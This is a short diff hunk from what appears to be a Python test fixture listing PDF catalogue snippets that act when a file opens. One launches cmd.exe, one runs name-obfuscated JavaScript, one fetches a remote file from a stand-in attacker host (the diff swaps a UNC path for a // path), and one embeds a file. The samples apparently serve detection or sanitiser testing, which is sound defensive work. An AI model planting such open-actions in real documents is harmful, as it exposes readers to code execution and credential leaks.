@@ -19,7 +19,7 @@ CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
 RUNS = {
     "a program": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>",
     "a script": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/JS(app.alert\\(1\\))>>>>",
-    "a file elsewhere": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(\\\\\\\\attacker.example\\\\x)/D[0/Fit]>>>>",
+    "a file elsewhere": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(//attacker.example/x)/D[0/Fit]>>>>",
     "a file inside": b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 4 0 R>>>>]>>>>>>",
 }
 PAGES = [
